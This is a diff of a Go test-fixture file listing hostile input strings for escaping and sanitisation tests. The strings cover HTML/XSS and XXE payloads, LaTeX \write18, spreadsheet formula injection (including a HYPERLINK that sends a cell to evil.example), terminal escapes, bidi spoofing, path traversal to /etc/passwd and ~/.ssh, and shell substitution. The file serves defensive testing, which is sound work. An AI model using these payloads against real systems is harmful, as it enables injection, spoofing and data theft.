@@ -12,122 +12,110 @@ import (
 	"unicode/utf8"
 )
 
-// Name is a name, and what it tries.
-type Name struct{ Tries, Text string }
-
-// Hostile are such names, all different.
-func Hostile() []Name {
-	return slices.Concat(pages, markdown, latex, spreadsheets, terminals, readers, files, harmless)
-}
-
-// The names, by whom they would harm.
+// The names, by whom they would harm, each with what it tries.
 var (
-	pages = []Name{
-		{"a script", `<script>alert(1)</script>`},
-		{"to end a script", `</script><script>alert(2)</script>`},
-		{"to hide a script", `<!--<script>-->`},
-		{"to end a title", `</title></style></desc></textarea><plaintext>`},
-		{"to end an attribute", `"><img src=x onerror=alert(3)>`},
-		{"an attribute", `' onmouseover='alert(4)' x="y" onfocus="alert(5)`},
-		{"to end CDATA", `]]></script><svg onload=alert(6)>`},
-		{"to leave a drawing", `</text></g></svg><foreignObject><iframe src=//evil.example>`},
-		{"entities", `&lt;b&gt; &#x3c;i&#62; &amp;amp; &quot;`},
-		{"a declaration", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`},
-		{"to change the page", `<base href=//evil.example><meta http-equiv=refresh content=0>`},
-		{"a scheme", `javascript:alert(7)`},
-		{"a page as an address", `data:text/html,<script>alert(8)</script>`},
-		{"a template", "{{.}} ${alert(9)} `alert(10)` <%= 1 %>"},
-		{"style", `x;}*{background:url(//evil.example)}`},
+	pages = []string{
+		`<script>alert(1)</script>`,                                     // a script
+		`</script><script>alert(2)</script>`,                            // to end a script
+		`<!--<script>-->`,                                               // to hide a script
+		`</title></style></desc></textarea><plaintext>`,                 // to end a title
+		`"><img src=x onerror=alert(3)>`,                                // to end an attribute
+		`' onmouseover='alert(4)' x="y" onfocus="alert(5)`,              // an attribute
+		`]]></script><svg onload=alert(6)>`,                             // to end CDATA
+		`</text></g></svg><foreignObject><iframe src=//evil.example>`,   // to leave a drawing
+		`&lt;b&gt; &#x3c;i&#62; &amp;amp; &quot;`,                       // entities
+		`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,     // a declaration
+		`<base href=//evil.example><meta http-equiv=refresh content=0>`, // to change the page
+		`javascript:alert(7)`,                                           // a scheme
+		`data:text/html,<script>alert(8)</script>`,                      // a page as an address
+		"{{.}} ${alert(9)} `alert(10)` <%= 1 %>",                        // a template
+		`x;}*{background:url(//evil.example)}`,                          // style
 	}
 
-	markdown = []Name{
-		{"a link", `[a](javascript:alert(11)) ![b](http://evil.example/b.png)`},
-		{"a definition", `[a]: http://evil.example "b"`},
-		{"links without marks", `http://evil.example www.evil.example a@evil.example @octocat #1 :smile:`},
-		{"an autolink", `<http://evil.example> <a@evil.example>`},
-		{"emphasis", "**b** __b__ _i_ ~~s~~ $m$ \\*e\\*"},
-		{"code", "`a` ``b`` ```c ~~~"},
-		{"blocks", "# h\n\n- i\n1. j\n> q\n\n    code\n---\n"},
-		{"HTML in Markdown", `<details open ontoggle=alert(12)><summary>`},
-		{"cells", `a|b||c\|d\\|e`},
+	markdown = []string{
+		`[a](javascript:alert(11)) ![b](http://evil.example/b.png)`,               // a link
+		`[a]: http://evil.example "b"`,                                            // a definition
+		`http://evil.example www.evil.example a@evil.example @octocat #1 :smile:`, // links without marks
+		`<http://evil.example> <a@evil.example>`,                                  // an autolink
+		"**b** __b__ _i_ ~~s~~ $m$ \\*e\\*",                                       // emphasis
+		"`a` ``b`` ```c ~~~",                                                      // code
+		"# h\n\n- i\n1. j\n> q\n\n    code\n---\n",                                // blocks
+		`<details open ontoggle=alert(12)><summary>`,                              // HTML in Markdown
+		`a|b||c\|d\\|e`, // cells
 	}
 
-	latex = []Name{
-		{"commands", `\input{/etc/passwd}\write18{id}\def\x{y}`},
-		{"special characters", `$ % & _ # ~ ^ { } \ < > |`},
-		{"to leave a table", `}\end{tabular}\\[1cm]{%`},
-		{"a row", `a & b \\ \hline`},
-		{"an option", `[1cm] *`},
-		{"ligatures", "-- --- ''a'' ``b`` ,, ?` !`"},
+	latex = []string{
+		`\input{/etc/passwd}\write18{id}\def\x{y}`, // commands
+		`$ % & _ # ~ ^ { } \ < > |`,                // special characters
+		`}\end{tabular}\\[1cm]{%`,                  // to leave a table
+		`a & b \\ \hline`,                          // a row
+		`[1cm] *`,                                  // an option
+		"-- --- ''a'' ``b`` ,, ?` !`",              // ligatures
 	}
 
-	spreadsheets = []Name{
-		{"a formula", `=HYPERLINK("http://evil.example?"&A1,"x")`},
-		{"a sum", `+1+cmd|' /C calc'!A0`},
-		{"a difference", `-2+3+cmd|' /C calc'!A0`},
-		{"a function", `@SUM(1+1)*cmd|' /C calc'!A0`},
-		{"a formula behind a tab", "\t=1+1"},
-		{"a formula behind a return", "\r=1+1"},
-		{"a formula on a line of its own", "a\n=1+1"},
-		{"a formula behind a blank", " =1+2"},
-		{"a formula in another cell", `a;=1+1;b`},
-		{"a formula of full width", "＝1＋1"},
-		{"an end of quotes", `a","=1+1","b`},
+	spreadsheets = []string{
+		`=HYPERLINK("http://evil.example?"&A1,"x")`, // a formula
+		`+1+cmd|' /C calc'!A0`,                      // a sum
+		`-2+3+cmd|' /C calc'!A0`,                    // a difference
+		`@SUM(1+1)*cmd|' /C calc'!A0`,               // a function
+		"\t=1+1",                                    // a formula behind a tab
+		"\r=1+1",                                    // a formula behind a return
+		"a\n=1+1",                                   // a formula on a line of its own
+		" =1+2",                                     // a formula behind a blank
+		`a;=1+1;b`,                                  // a formula in another cell
+		"＝1＋1",                                      // a formula of full width
+		`a","=1+1","b`,                              // an end of quotes
 	}
 
-	terminals = []Name{
-		{"colour", "\x1b[31mred\x1b[0m"},
-		{"a title", "\x1b]0;owned\a"},
-		{"a link on a terminal", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\"},
-		{"to clear the screen", "\x1b[2J\x1b[H"},
-		{"controls of 8 bits", "a\u009b31mb\u0085c\u0090d"},
-		{"bells and deletions", "a\a\b\b\x7f"},
-		{"to go back", "good\rbad"},
-		{"NUL", "a\x00b"},
+	terminals = []string{
+		"\x1b[31mred\x1b[0m", // colour
+		"\x1b]0;owned\a",     // a title
+		"\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", // a link on a terminal
+		"\x1b[2J\x1b[H",             // to clear the screen
+		"a\u009b31mb\u0085c\u0090d", // controls of 8 bits
+		"a\a\b\b\x7f",               // bells and deletions
+		"good\rbad",                 // to go back
+		"a\x00b",                    // NUL
 	}
 
-	readers = []Name{
-		{"to turn around", "a\u202egpj.exe\u202c"},
-		{"isolates", "\u2066a\u2067b\u2068c\u2069"},
-		{"marks of direction", "a\u200eb\u200fc\u061cd"},
-		{"invisible characters", "a\u200bb\u2060c\ufeffd\u00ade\u180ef"},
-		{"joiners", "a\u200cb\u200dc"},
-		{"tags", "a\U000e0001\U000e0061b"},
-		{"lines", "one\ntwo\r\nthree\u2028four\u2029five\vsix\fseven"},
-		{"what is no UTF-8", "a\xffb\xc0\xafc\xed\xa0\x80d\xf5"},
-		{"no characters", "a\ufffeb\U0010ffffc"},
-		{"private characters", "\ue000a\ue001b\uf8ff"},
-		{"length", strings.Repeat("long", 600)},
-		{"length in words", strings.Repeat("more words ", 200) + "."},
+	readers = []string{
+		"a\u202egpj.exe\u202c",                              // to turn around
+		"\u2066a\u2067b\u2068c\u2069",                       // isolates
+		"a\u200eb\u200fc\u061cd",                            // marks of direction
+		"a\u200bb\u2060c\ufeffd\u00ade\u180ef",              // invisible characters
+		"a\u200cb\u200dc",                                   // joiners
+		"a\U000e0001\U000e0061b",                            // tags
+		"one\ntwo\r\nthree\u2028four\u2029five\vsix\fseven", // lines
+		"a\xffb\xc0\xafc\xed\xa0\x80d\xf5",                  // what is no UTF-8
+		"a\ufffeb\U0010ffffc",                               // no characters
+		"\ue000a\ue001b\uf8ff",                              // private characters
+		strings.Repeat("long", 600),                         // length
+		strings.Repeat("more words ", 200) + ".",            // length in words
 	}
 
-	files = []Name{
-		{"another folder", "../../../../etc/passwd"},
-		{"a root", "/etc/passwd"},
-		{"another folder of Windows", `..\..\x`},
-		{"a device", "CON"},
-		{"a device with a type", "nul.txt"},
-		{"a folder", ".."},
-		{"a home", "~/.ssh/id"},
-		{"a shell", "$(id) `id`;id|id&&id>x"},
-		{"a flag", "--out=x"},
-		{"a file by a sign", "@/etc/passwd"},
-		{"a format", "%s%n%!d(MISSING)"},
+	files = []string{
+		"../../../../etc/passwd", // another folder
+		"/etc/passwd",            // a root
+		`..\..\x`,                // another folder of Windows
+		"CON",                    // a device
+		"nul.txt",                // a device with a type
+		"..",                     // a folder
+		"~/.ssh/id",              // a home
+		"$(id) `id`;id|id&&id>x", // a shell
+		"--out=x",                // a flag
+		"@/etc/passwd",           // a file by a sign
+		"%s%n%!d(MISSING)",       // a format
 	}
 
 	// harmless means no harm, in scripts of its own.
-	harmless = []Name{
-		{"nothing, in scripts of its own", "模型 Ω é 🤖👩\u200d🚀 नमस्ते क्\u200dष مرحبا"},
+	harmless = []string{
+		"模型 Ω é 🤖👩\u200d🚀 नमस्ते क्\u200dष مرحبا", // nothing, in scripts of its own
 	}
 )
 
-// Texts are the names alone.
+// Texts are all such names, no two of them alike.
 func Texts() []string {
-	var all []string
-	for _, n := range Hostile() {
-		all = append(all, n.Text)
-	}
-	return all
+	return slices.Concat(pages, markdown, latex, spreadsheets, terminals, readers, files, harmless)
 }
 
 // Readable are the names that files may hold: readers refuse what is no UTF-8.
